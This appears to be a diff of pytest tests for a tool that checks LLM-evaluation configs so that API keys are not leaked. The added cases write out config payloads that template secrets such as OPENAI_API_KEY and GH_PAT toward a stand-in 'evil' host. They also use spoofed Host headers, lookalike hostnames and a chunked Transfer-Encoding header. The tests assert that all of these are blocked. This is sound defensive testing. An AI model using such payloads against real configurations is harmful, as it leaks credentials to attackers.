@@ -2,11 +2,14 @@
 
 import base64
 import json
+import re
+import shlex
 from urllib.parse import quote
 
 import pytest
 
 from gradegate import cli
+from gradegate.asking.wire import host_of
 from support.fake_llm import FakeLlm, serve
 
 KEY = "sk-canary-0123456789abcdef"
@@ -98,6 +101,11 @@ ELSEWHERE = {
     "http header": lambda url: config(
         {"id": url, "config": {"body": {"p": "{{prompt}}"}, "headers": {"A": "{{ env.OPENAI_API_KEY }}"}}}
     ),
+    "host header": lambda url: config(openai(headers={"hOST": host_of(url)})),
+    "host header of http": lambda url: config(
+        {"id": "{{env.OPENAI_BASE_URL}}/{{env.OPENAI_API_KEY}}",
+         "config": {"body": {"p": "{{prompt}}"}, "headers": {"Host": host_of(url)}}}
+    ),
     "http body": lambda url: config({"id": url, "config": {"body": {"p": "{{prompt}}{{env.DATABASE_URL}}"}}}),
     "provider id": lambda url: config({"id": "openai:chat:{{env.GH_PAT}}", "config": {"apiBaseUrl": url, "apiKey": "x"}}),
     "passthrough": lambda url: config(openai(apiKey="x", apiBaseUrl=url, passthrough={"user": "{{env.GH_PAT}}"})),
@@ -134,6 +142,33 @@ def test_the_workflow_allows_a_host(gate, llm, evil, github, way, form):
     assert ran.code in (0, 1), ran.err
     assert CANARY in requests(evil)
     assert CANARY not in everything(ran)
+
+
+@pytest.mark.parametrize(
+    "name", ["gateway.a\u00dfets.localhost", "gateway%2eassets.localhost", "gateway.assets.localhost.."]
+)
+def test_no_key_goes_to_a_host_that_only_looks_like_one_that_is_allowed(gate, llm, github, name):
+    target = openai(apiBaseUrl=f"http://{name}/v1")
+    ran = gate(config(target), "--allowed-hosts", "gateway.assets.localhost")
+    assert (ran.code, llm.requests) == (2, [])
+    assert "it is no name of a host" in ran.err
+
+
+def test_a_host_header_that_a_test_fills_in_leads_no_key_elsewhere(gate, llm, github):
+    headers = {"Host": "{{x}}"}
+    target = {
+        "id": llm.base,
+        "config": {"body": {"p": "{{prompt}}", "k": "{{env.OPENAI_API_KEY}}"}, "headers": headers},
+    }
+    ran = gate(config(target))
+    assert (ran.code, llm.requests) == (2, [])
+    assert "would send OPENAI_API_KEY to {{x}}" in ran.err
+
+
+def test_no_config_says_where_a_request_ends(gate, llm, github):
+    ran = gate(config(openai(headers={"Transfer-Encoding": "chunked"})))
+    assert (ran.code, llm.requests) == (2, [])
+    assert "promptfooconfig.yaml:4: the header `transfer-encoding` of `openai:chat:m`" in ran.err
 
 
 def test_off_github_keys_are_bound_when_hosts_are_named(gate, llm, evil, monkeypatch):
@@ -307,3 +342,17 @@ def test_mistakes_and_warnings_show_no_key(gate, llm, github):
     written = config({"id": f"opnai:{KEY}", "config": {"apiKey": "own-canary-5"}})
     assert CANARY not in everything(gate(written, *REPORTS))
     assert CANARY not in everything(gate(config(openai(apiBaseUrl=f"not-{KEY}", apiKey="own-canary-5"))))
+
+
+def test_the_command_for_agents_sends_no_key_of_theirs_elsewhere(gate, llm, evil, github, monkeypatch, capsys):
+    other = f"{{{{env.OPENAI_BASE_URL | default('{evil.base}')}}}}"  # on GitHub it is set, and on a machine of their own it is not
+    asserts = [{"type": "contains", "value": "nobody says this"}]
+    ran = gate(config(openai(apiBaseUrl=other), test={"description": "d", "assert": asserts}), "-o", "x.agent.md")
+    assert (ran.code, len(llm.requests)) == (1, 1)
+    command = re.search(r"```sh\ngradegate (.*)\n", (ran.folder / "x.agent.md").read_text())
+    assert command is not None
+    for name in ("GITHUB_ACTIONS", "GITHUB_EVENT_NAME", "OPENAI_BASE_URL"):
+        monkeypatch.delenv(name)
+    assert cli.main(shlex.split(command[1])) == 2
+    assert "would send OPENAI_API_KEY to 127.0.0.1:" in capsys.readouterr().err
+    assert evil.requests == []
